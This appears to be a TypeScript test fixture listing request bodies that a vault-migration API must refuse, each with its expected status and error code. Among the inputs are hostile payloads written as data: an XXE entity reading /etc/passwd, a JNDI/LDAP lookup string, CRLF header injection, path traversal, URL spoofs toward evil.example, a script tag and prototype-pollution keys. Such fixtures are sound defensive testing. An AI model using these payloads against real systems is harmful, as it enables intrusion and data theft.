/** Inputs that `POST /api/moves` must refuse, each with its answer. Helpers assert nothing. */
export interface BadMove {
  readonly name: string;
  /** Text is sent unchanged, other values as JSON. */
  readonly body: unknown;
  readonly status: number;
  readonly code: string;
  /** JSON pointers that the answer must name. */
  readonly pointers?: readonly string[];
}

const source = 'contoso-westeurope';
const target = 'contoso-northeurope';
const good = { sourceVault: source, targetVault: target };
const text = JSON.stringify(good);

export const notJson: readonly BadMove[] = [
  ['an empty body', ''],
  ['only spaces', '  \n '],
  ['a truncated object', text.slice(0, -1)],
  ['a truncated string', text.slice(0, 20)],
  ['single quotes', text.replaceAll('"', "'")],
  ['a trailing comma', text.replace('}', ',}')],
  ['a comment', `// move\n${text}`],
  ['two documents', text + text],
  ['NaN as a number', withPace('{"maxInFlight":NaN}')],
  ['a hexadecimal number', withPace('{"maxInFlight":0x10}')],
  ['a line break within a string', text.replace(source, 'contoso\r\nwesteurope')],
  ['a form', 'sourceVault=contoso-westeurope&targetVault=contoso-northeurope'],
  ['XML', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'],
].map(([name = '', body]) => ({ name, body, status: 400, code: 'BODY_NOT_JSON' }));

export const wrongShapes: readonly BadMove[] = [
  invalid('null', null, ['']),
  invalid('an array', [good], ['']),
  invalid('a string', '"contoso-westeurope"', ['']),
  invalid('a number', '1', ['']),
  invalid('an empty object', {}, ['/sourceVault', '/targetVault']),
  invalid('no target', { sourceVault: source }, ['/targetVault']),
  invalid('vaults that are null', { sourceVault: null, targetVault: null }, ['/sourceVault', '/targetVault']),
  invalid('a number as source', { ...good, sourceVault: 7 }, ['/sourceVault']),
  invalid('an array as source', { ...good, sourceVault: [source] }, ['/sourceVault']),
  invalid('an object as target', { ...good, targetVault: { name: target } }, ['/targetVault']),
  invalid('a boolean as target', { ...good, targetVault: true }, ['/targetVault']),
  invalid('a number as id', { ...good, id: 1 }, ['/id']),
  invalid('null as id', { ...good, id: null }, ['/id']),
  invalid('a number as method', { ...good, method: 1 }, ['/method']),
  invalid('an unknown method', { ...good, method: 'teleport' }, ['/method']),
  invalid('a method in upper case', { ...good, method: 'AUTO' }, ['/method']),
  invalid('an unknown verify level', { ...good, verify: 'yes' }, ['/verify']),
  invalid('a boolean as verify', { ...good, verify: true }, ['/verify']),
  invalid('a number as pace', { ...good, pace: 1 }, ['/pace']),
  invalid('an array as pace', { ...good, pace: [] }, ['/pace']),
  invalid('null as pace', { ...good, pace: null }, ['/pace']),
  invalid('a text as share', { ...good, pace: { sourceShare: '0.5' } }, ['/pace/sourceShare']),
  invalid('a share of nothing', { ...good, pace: { sourceShare: 0 } }, ['/pace/sourceShare']),
  invalid('a share over all', { ...good, pace: { targetShare: 1.01 } }, ['/pace/targetShare']),
  invalid('a negative share', { ...good, pace: { targetShare: -1 } }, ['/pace/targetShare']),
  invalid('half a request in flight', { ...good, pace: { maxInFlight: 1.5 } }, ['/pace/maxInFlight']),
  invalid('none in flight', { ...good, pace: { maxInFlight: 0 } }, ['/pace/maxInFlight']),
  invalid('too many in flight', { ...good, pace: { maxInFlight: 257 } }, ['/pace/maxInFlight']),
  invalid('a number above the range of numbers', withPace('{"maxInFlight":1e400}'), ['/pace/maxInFlight']),
  invalid('a number of a thousand digits', withPace(`{"maxInFlight":${'9'.repeat(1000)}}`), ['/pace/maxInFlight']),
  invalid('an unknown field', { ...good, delete: true }, ['/delete']),
  invalid('an unknown field in pace', { ...good, pace: { turbo: true } }, ['/pace/turbo']),
  invalid('a field that a later version may have', { ...good, keyVersions: 'replace' }, ['/keyVersions']),
  invalid('a field in other case', { sourcevault: source, targetVault: target }, ['/sourceVault']),
  invalid('__proto__ as field', text.replace('}', ',"__proto__":{"method":"exportImport"}}'), []),
  invalid('constructor as field', text.replace('}', ',"constructor":{"prototype":{}}}'), ['/constructor']),
  invalid('a slash and a tilde in a field', { ...good, 'a/b~c': 1 }, ['/a~1b~0c']),
  invalid('deep nesting', withPace(`${'['.repeat(20_000)}${']'.repeat(20_000)}`), ['/pace']),
  invalid('deep nesting all around', `${'['.repeat(30_000)}${']'.repeat(30_000)}`, ['']),
  invalid('a duplicate key with an invalid last value', text.replace('}', ',"targetVault":null}'), ['/targetVault']),
];

const hostileNames = [
  '../',
  '..',
  '../../etc/passwd',
  'a@evil.example',
  'evil.example',
  'https://evil.example',
  'https://contoso-westeurope.vault.azure.net.evil.example',
  'https://contoso-westeurope.vault.azure.net@evil.example',
  'https://evil.example@contoso-westeurope.vault.azure.net',
  'https://evil.example#.vault.azure.net',
  'https://evil.example?.vault.azure.net',
  'https://evil.example/.vault.azure.net',
  'https://a.b.vault.azure.net',
  'https://contoso-westeurope.vault.azure.net:443',
  'https://contoso-westeurope.vault.azure.net/secrets/one',
  'https://contoso-westeurope.vault.azure.net?x=1',
  'https://contoso-westeurope.vault.azure.net.',
  'https://contoso-westeurope.vault.azure.cn',
  'https://.vault.azure.net',
  'http://contoso-westeurope.vault.azure.net',
  'file:///contoso-westeurope.vault.azure.net',
  'contoso-westeurope.vault.azure.net',
  'contoso-westeurope:443',
  'contoso-westeurope/',
  'contoso-westeurope ',
  ' contoso-westeurope',
  'contoso--westeurope',
  'contoso-westeurope-',
  '-contoso',
  '1contoso',
  'contoso_westeurope',
  'contoso%2Dwesteurope',
  'contoso-*',
  '127.0.0.1',
  '[::1]',
  'conto\u0455o-westeurope',
  'contoso\u2010westeurope',
  '\uff43ontoso-westeurope',
  'conto\u017fo-westeurope',
  'contoso-westeurope\u200b',
  'contoso-westeurope\r\nHost: evil.example',
  'contoso-westeurope\u0000',
  '${jndi:ldap://evil.example/a}',
  'ab',
  'a'.repeat(25),
  'a'.repeat(10_000),
];

export const hostileVaults: readonly BadMove[] = hostileNames.flatMap((vault) => [
  invalid(`source ${shown(vault)}`, { ...good, sourceVault: vault }, ['/sourceVault']),
  invalid(`target ${shown(vault)}`, { ...good, targetVault: vault }, ['/targetVault']),
]);

export const hostileIds: readonly BadMove[] = [
  '',
  ' ',
  '../x',
  'a/b',
  'a\\b',
  'a b',
  'a:0001',
  '@entity@key',
  '-starts-with-a-hyphen',
  'a#b',
  'a?b',
  'a%2Fb',
  'a\r\nLocation: https://evil.example',
  'a\u0000',
  'ä',
  '<script>alert(1)</script>',
  'a'.repeat(65),
  'a'.repeat(10_000),
].map((id) => invalid(`id ${shown(id)}`, { ...good, id }, ['/id']));

export const notAllowed: readonly BadMove[] = [
  refused('a source that is not on the list', { ...good, sourceVault: 'contoso-eastus' }, 403, 'SOURCE_NOT_ALLOWED'),
  refused('a target that is not on the list', { ...good, targetVault: 'contoso-eastus' }, 403, 'TARGET_NOT_ALLOWED'),
  refused('source and target swapped', { sourceVault: target, targetVault: source }, 403, 'SOURCE_NOT_ALLOWED'),
  refused('the vault with the staging key', { ...good, targetVault: 'contoso-mover' }, 403, 'TARGET_NOT_ALLOWED'),
  refused('localhost', { ...good, sourceVault: 'localhost' }, 403, 'SOURCE_NOT_ALLOWED'),
  refused(
    'an address that is not on the list',
    { ...good, sourceVault: 'https://evil.vault.azure.net' },
    403,
    'SOURCE_NOT_ALLOWED',
  ),
  refused('a duplicate key', text.replace('}', ',"sourceVault":"contoso-eastus"}'), 403, 'SOURCE_NOT_ALLOWED'),
  refused('the same vault twice', { sourceVault: source, targetVault: source }, 400, 'SAME_VAULT', ['/targetVault']),
  refused(
    'the same vault in two spellings',
    { sourceVault: source, targetVault: 'https://CONTOSO-WestEurope.vault.azure.net/' },
    400,
    'SAME_VAULT',
    ['/targetVault'],
  ),
  refused('an unknown source', { ...good, sourceVault: 'missing-a' }, 400, 'VAULT_UNREACHABLE', ['/sourceVault']),
  refused('an unknown target', { ...good, targetVault: 'missing-b' }, 400, 'VAULT_UNREACHABLE', ['/targetVault']),
  refused(
    'two unknown vaults',
    { sourceVault: 'missing-a', targetVault: 'https://missing-b.vault.azure.net' },
    400,
    'VAULT_UNREACHABLE',
    ['/sourceVault', '/targetVault'],
  ),
];

/** The settings for these answers. */
export const badMoveSettings = {
  MOVE_ALLOWED_SOURCES: 'contoso-westeurope, missing-*',
  MOVE_ALLOWED_TARGETS: 'contoso-northeurope, contoso-westeurope, missing-*',
};

function invalid(name: string, body: unknown, pointers: readonly string[]): BadMove {
  return { name, body, status: 400, code: 'REQUEST_INVALID', pointers };
}

function refused(name: string, body: unknown, status: number, code: string, pointers?: readonly string[]): BadMove {
  return { name, body, status, code, ...(pointers === undefined ? {} : { pointers }) };
}

function withPace(pace: string): string {
  return text.replace('}', `,"pace":${pace}}`);
}

function shown(value: string): string {
  return value.length > 60 ? `of ${value.length} characters` : JSON.stringify(value);
}
